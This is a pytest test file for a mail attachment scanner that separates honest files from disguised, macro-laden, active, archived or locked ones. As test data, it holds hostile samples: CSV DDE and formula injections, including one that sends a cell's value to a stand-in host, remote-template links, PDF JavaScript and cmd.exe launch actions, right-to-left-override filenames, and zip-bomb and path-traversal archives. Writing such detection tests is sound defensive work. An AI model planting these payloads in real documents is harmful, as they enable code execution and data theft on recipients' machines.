"""What a file is, whatever it says of itself; and that honest files pass."""

import os
import struct
import time

import pytest

from mailbot.mail.files.danger import Danger as D
from mailbot.mail.files.sniff import deceives, sniff
from tests.files import (
    CSV,
    DDE,
    EICAR,
    FEC,
    HEIC,
    HTML,
    JPEG,
    MSG_TYPE,
    PDF,
    PNG,
    PROGRAM,
    TIFF,
    docm,
    docx,
    odt,
    ole,
    packed,
    pdf,
    pdf_with_object_stream,
    relation,
    xlsx,
)

OCTETS = "application/octet-stream"
JS = b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"


def _id(value: object) -> str:
    """Bytes make no name of a test."""
    return "" if isinstance(value, bytes) else ascii(getattr(value, "value", value))[:40]


def danger(name: str, data: bytes, type_: str = OCTETS) -> D | None:
    return sniff([name], type_, data).danger


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("releve.pdf", PDF),
        ("RELEVE.PDF", PDF),
        ("sans-ligne.pdf", b"\r\n" + PDF),
        ("scanner.pdf", b"\x1b%-12345X@PJL\r\n" + PDF),
        ("facture-x.pdf", pdf(b"/Names<</EmbeddedFiles 5 0 R>>/OpenAction[3 0 R/FitH 0]")),
        ("longue.pdf", pdf(b"/BaseFont/Arial#20Narrow/JS/JavaScripted#20".replace(b"/JavaScripted", b"/Java"))),
        ("photo.jpg", JPEG),
        ("photo.jpeg", PNG),
        ("IMG_0001.HEIC", HEIC),
        ("fax.tif", TIFF),
        ("tableau.xlsx", xlsx()),
        ("lettre.docx", docx()),
        ("lettre.odt", odt()),
        ("ancien.doc", ole("WordDocument", "1Table")),
        ("ancien.xls", ole("Workbook")),
        ("recent.doc", docx()),
        ("export.csv", CSV),
        ("export.csv", "date;libellé\n1;é\n".encode("utf-16")),
        ("export.xls", b"compte\tmontant\n606100\t-12,50\n"),
        ("fec.txt", FEC),
        ("note.txt", b"oui"),
        ("note.txt", "PK;libellé\n".encode()),
        ("lettre.doc", b"{\\rtf1\\ansi Bonjour}"),
        ("message.msg", ole("__properties_version1.0")),
        ("message.eml", b"From: a@b.example\nSubject: x\n\nBonjour\n"),
    ],
    ids=_id,
)
def test_an_honest_file_passes(name: str, data: bytes) -> None:
    assert danger(name, data) is None


@pytest.mark.parametrize(
    "type_", ["application/pdf", OCTETS, "application/x-download", "application/msword", "image/jpg"]
)
def test_a_wrong_declared_type_of_a_document_is_a_mistake_and_no_deceit(type_: str) -> None:
    assert sniff(["releve.pdf"], type_, PDF).danger is None


@pytest.mark.parametrize(
    ("names", "data"),
    [
        (["releve.pdf"], PROGRAM),
        (["releve.pdf"], HTML),
        (["releve.pdf"], EICAR),
        (["releve.pdf"], packed({"a.txt": "x"})),
        (["releve.pdf"], b"<html><script>alert(1)</script>".ljust(1000) + PDF),
        (["releve.pdf"], PNG + PDF[:0] + packed({"a.class": "x"})),
        (["releve.pdf"], PDF + packed({"META-INF/MANIFEST.MF": "x"})),
        (["photo.jpg"], JPEG + packed({"a.class": "x"})),
        (["photo.jpg"], PDF),
        (["tableau.xlsx"], docx()),
        (["lettre.docx"], packed({"a.exe": "x"})),
        (["note.txt"], PROGRAM),
        (["piece"], PROGRAM),
        (["releve.pdf" + " " * 60 + ".scr"], PROGRAM),
        (["releve.pdf\u00a0\u00a0\u00a0\u00a0.html"], HTML),
        (["facture.pdf.exe"], PROGRAM),
        (["releve\u202efdp.exe"], PROGRAM),
        (["releve\u202exslx.pdf"], PDF),
        (["a.pdf", "a.exe"], PDF),
        (["a.pdf", "a.docx"], PDF),
    ],
    ids=_id,
)
def test_a_name_that_says_something_else(names: list[str], data: bytes) -> None:
    assert sniff(names, OCTETS, data).danger is D.DISGUISED


def test_a_document_declared_as_a_page_or_script() -> None:
    assert sniff(["releve.pdf"], "text/html", PDF).danger is D.DISGUISED
    assert sniff(["piece.html"], "text/html", HTML).danger is None, "the list of accepted types refuses it"


@pytest.mark.parametrize(
    "names",
    [["releve.pdf", "RELEVE.PDF"], ["a.jpg", "a.jpeg"], ["a.xls", "a.xlsx"], ["2025.12.31.pdf"], ["compte.xls.pdf"],
     ["a.pdf", "a"], ["rele\u0301ve 3.pdf"], ["M. Durand.pdf"], ["\u200eCapture.png"], []],
)  # fmt: skip
def test_names_that_agree(names: list[str]) -> None:
    assert not deceives(names)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("note.docm", docm()),
        ("note.docm", docx()),
        ("note.docx", docm()),
        ("tableau.xlsx", xlsx({"xl/vbaProject.bin": b"x"})),
        ("tableau.xlsx", xlsx({"xl/Autre.bin": ole("VBA")})),
        ("tableau.xlsx", xlsx({"xl/macrosheets/sheet1.xml": "<x/>"})),
        ("tableau.xlsx", xlsx({"[Content_Types].xml": "<T ContentType='application/vnd.ms-office.vbaProject'/>"})),
        ("ancien.doc", ole("WordDocument", "Macros", "VBA")),
        ("ancien.doc", b"\xd0\xcf\x11\xe0" + bytes(300) + "_VBA_PROJECT".encode("utf-16-le")),
        ("ancien.xls", ole("Workbook", more=b"\x85\0\x0e\0\0\0\0\0\0\x01\x06\0Macro1")),
        ("lettre.odt", odt({"Basic/Standard/Module1.xml": "<x/>"})),
        ("lettre.docx", docx({"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://x.example/a.dotm")})),
        ("lettre.docx", docx({"word/_rels/settings.xml.rels": relation("attachedTemplate", "h&#116;tp://1.2.3.4/a")})),
        ("lettre.docx", docx({"word/_rels/document.xml.rels": relation("oleObject", "mhtml:http://x.example/a!x")})),
        ("lettre.docx", docx({"word/_rels/a.rels": relation("attachedTemplate", "file://///1.2.3.4/a/b.dotm")})),
    ],
    ids=_id,
)  # fmt: skip
def test_programs_in_documents(name: str, data: bytes) -> None:
    assert danger(name, data) is D.MACRO


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize(
    "target",
    ["file:///C:\\Users\\a.b\\Normal.dotm", "file:///\\\\SRV01\\modeles\\lettre.dotx",
     "\\\\srv.cabinet.local\\m\\a.dotx", "Normal.dotm"],
)  # fmt: skip
def test_a_template_of_the_house_is_none(target: str) -> None:
    assert danger("a.docx", docx({"word/_rels/settings.xml.rels": relation("attachedTemplate", target)})) is None


def test_links_and_pictures_elsewhere_are_none() -> None:
    relations = {f"word/_rels/{kind}.rels": relation(kind, "https://x.example/a") for kind in ("hyperlink", "image")}
    assert danger("a.docx", docx(relations)) is None


@pytest.mark.parametrize(
    "data",
    [
        pdf(JS),
        pdf(b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"),
        pdf(b"/OpenAction<</S/#4aavaScrip#74/JS 5 0 R>>"),
        pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
        pdf(b"/AA<</O<</S/Rendition/JS (x)>>>>"),
        pdf(b"/Annots[<</Subtype/RichMedia>>]"),
        pdf_with_object_stream(b"1 0 <</S/JavaScript/JS(app.alert(1))>>"),
        PDF + b"#41" * 30_000,
    ],
    ids=_id,
)
def test_a_pdf_that_runs_something(data: bytes) -> None:
    assert danger("releve.pdf", data) is D.ACTIVE


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("export.csv", DDE),
        ("export.csv", b"1;2\r\n1;\"=cmd| '/c calc'!A0\""),
        ("export.csv", b'=DDE("cmd";"/C calc";"x");1\r\n'),
        ("export.csv", b"@SUM(1+9)*cmd|' /C calc'!A0"),
        ("export.csv", b"-2+3+cmd|' /C calc'!A0"),
        ("export.csv", b'a;=HYPERLINK("http://x.example/?"&A1;"ici")'),
        ("export.csv", "\ufeffa;=WEBSERVICE(A1)".encode("utf-16")),
    ],
    ids=_id,
)
def test_cells_that_reach_outside(name: str, data: bytes) -> None:
    assert danger(name, data) is D.FORMULA


def _locked() -> bytes:
    data = bytearray(docx())
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


def _swollen() -> bytes:
    """A member that claims to unpack to three gigabytes."""
    data = bytearray(xlsx({"xl/worksheets/sheet1.xml": "<x>"}))
    struct.pack_into("<L", data, data.rindex(b"PK\x01\x02") + 24, 3_000_000_000)
    return bytes(data)


def _overlapping() -> bytes:
    """Two members with the same bytes (CVE-2024-0450)."""
    data = bytearray(docx({"word/b.xml": "<x>" + "y" * 1000}))
    last = data.rindex(b"PK\x01\x02")
    struct.pack_into("<L", data, last + 42, 0)
    return bytes(data)


@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        ("pieces.zip", packed({"a.pdf": PDF}), D.ARCHIVE),
        ("pieces.rar", b"Rar!\x1a\x07\0" + bytes(40), D.ARCHIVE),
        ("pieces.7z", b"7z\xbc\xaf\x27\x1c" + bytes(40), D.ARCHIVE),
        ("a.docx", docx({"word/b.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}), D.BOMB),
        ("a.docx", docx({"word/b.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>".encode("utf-16")}), D.BOMB),
        ("a.odt", odt({"content.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}), D.BOMB),
        ("a.xlsx", _swollen(), D.BOMB),
        ("a.docx", docx({"../../../tmp/x": "x"}), D.BOMB),
        ("a.docx", _overlapping(), D.BOMB),
        ("a.docx", docx({"word/embeddings/a.exe": "x"}), D.ACTIVE),
        ("a.docx", docx({"word/activeX/activeX1.bin": "x"}), D.ACTIVE),
        ("a.docx", docx({"word/a.xml": "<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"}), D.ACTIVE),
        ("a.doc", b"{\\rtf1{\\object\\objocx{\\*\\objdata 0105}}}", D.ACTIVE),
        ("a.xlsx", ole("EncryptedPackage", "EncryptionInfo"), D.LOCKED),
        ("a.docx", _locked(), D.LOCKED),
        ("a.odt", odt({"META-INF/manifest.xml": "<manifest:encryption-data/>"}), D.LOCKED),
        ("a.xls", HTML, D.DAMAGED),
        ("a.docx", docx()[:100], D.DAMAGED),
        ("a.xlsx", b"PK rien", D.DAMAGED),
        ("a.pdf", bytes(range(256)) * 4, D.DAMAGED),
        ("a.pdf", b"x\r\n", D.DAMAGED),
    ],
    ids=_id,
)  # fmt: skip
def test_what_is_held_apart(name: str, data: bytes, expected: D) -> None:
    assert danger(name, data) is expected


def test_the_list_of_an_archive_is_bounded() -> None:
    end = struct.pack("<4sHHHHLLH", b"PK\x05\x06", 0, 0, 65_000, 65_000, 3_000_000, 0, 0)
    assert danger("a.zip", b"PK\x03\x04" + bytes(3_000_000) + end) is D.BOMB


def test_the_content_is_named_whatever_the_name_says() -> None:
    assert sniff([], "application/pdf", PDF).content == "pdf"
    assert sniff(["piece.bin"], MSG_TYPE, ole("__properties_version1.0")).content == "msg"
    assert (
        sniff(["x.msi"], OCTETS, ole("A", more=bytes.fromhex("84100c0000000000c000000000000046"))).content == "program"
    )


@pytest.mark.slow
@pytest.mark.parametrize("head", [b"%PDF-1.7\n", b"\xd0\xcf\x11\xe0", JPEG, b"compte;montant\n"])
def test_25_megabytes_are_judged_in_a_moment(head: bytes) -> None:
    body = os.urandom(25_000_000) if head[0] != ord("c") else b"606100;Fournitures;-12,50;|x\r\n" * 850_000
    begin = time.process_time()
    sniff(["a.csv"], OCTETS, head + body)
    assert time.process_time() - begin < 0.5


def test_damaged_lists_of_members_raise_nothing() -> None:
    whole = docm()
    for cut in range(0, len(whole), 7):
        for flipped in (whole[:cut], whole[:cut] + bytes([whole[cut] ^ 0xFF]) + whole[cut + 1 :]):
            assert isinstance(sniff(["a.docx"], OCTETS, flipped).content, str)
